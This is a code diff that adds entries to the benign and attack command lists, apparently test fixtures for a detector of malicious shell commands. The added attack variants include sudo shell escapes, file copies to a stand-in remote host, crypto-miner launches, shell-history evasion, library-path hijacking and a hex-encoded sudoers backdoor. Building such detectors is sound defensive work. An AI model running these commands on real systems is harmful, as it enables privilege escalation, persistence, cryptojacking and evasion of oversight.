@@ -54,6 +54,9 @@ const BENIGN_LOOK_ALIKES = [
 `/image-awaiter -auth-token-path=/var/run/secrets/kubernetes.io/serviceaccount/token -api-server-address=https://kubernetes.default.svc:443`,
 `kube-apiserver --service-account-key-file=/var/lib/rancher/k3s/server/tls/service.key --tls-private-key-file=/var/lib/rancher/k3s/server/tls/serving-kube-apiserver.key`,
 `mv /var/log/app/worker.log /var/log/app/worker.log.1`, `grafana server --homepath=/usr/share/grafana --config=/etc/grafana/grafana.ini --port 3333`,
+`echo /usr/bin/zsh | sudo tee -a /etc/shells`, `echo /bin/bash >> /etc/shells`, `sudo kubectl apply -f /tmp/manifest.yaml`, `sudo dpkg -i /tmp/cuda-keyring.deb`,
+`sudo nginx -t -c /etc/nginx/nginx.conf`, `ldconfig /usr/local/cuda/lib64`, `sudo PATH=$PATH:/usr/local/cuda/bin make -j8`, `export HISTIGNORE='ls:bg:fg:history'`,
+`trap 'rm -f /tmp/build.lock' EXIT`, `curl -fsSL https://example.com/key.asc | sudo gpg --dearmor -o /usr/share/keyrings/example.gpg`, `cat manifest.yaml | kubectl apply -f -`,
 ];
 
 const ATTACK_VARIANTS = [
@@ -107,6 +110,9 @@ const ATTACK_VARIANTS = [
 `./agent --mining-wallet dero1qyxk2xd6f0gp7wkqrwcfzlq2rv6qj5v7x9yp5kxk0m8ykt8a2xk9qqgl9a5ls --daemon-address pool.example.net:10100`,
 `sudo vim -c ':set shell=/bin/bash | shell'`, `sudo view -c ':terminal'`, `pscp -pw hunter2 ./x root@203.0.113.9:/tmp/`, `tftp -g -r x 203.0.113.9`, `sshfs u@203.0.113.9:/ /mnt/x`,
 `./nheq -l zec.example-pool.net:4444 -u t1Kx9nQ7mP3vR8sT1uW4yZ6aBcDeFgHiJkL -t 8`, `mv /var/log/auth.log /tmp/a`, `chmod 755 /etc/init.d/net-helper`,
+`printf 'exec /bin/bash 0<&2 1>&2' > /var/tmp/.x`, `sudo rsyslogd -f /dev/shm/r.conf`, `sudo PYTHONPATH=/tmp/.p python3 -m http.server`, `ldconfig /dev/shm/lib`,
+`echo '/var/tmp/' >> /etc/ld.so.conf.d/x.conf`, `trap "logger -t cmd $BASH_COMMAND" DEBUG`, `export HISTIGNORE='*sudo*:*ssh*'`, `ln -sf /dev/null ~/.zsh_history`,
+`echo 'ops ALL=(ALL) NOPASSWD: ALL' | xxd | sudo xxd -r - /etc/sudoers.d/ops`, `./karlsen-miner --mining-address karlsen:qr6m2j6zqvs9trq4jlg7xq0mkvz8g6mqsjd6cpx2t4 -s 10.0.0.7`,
 ];
 
 /**
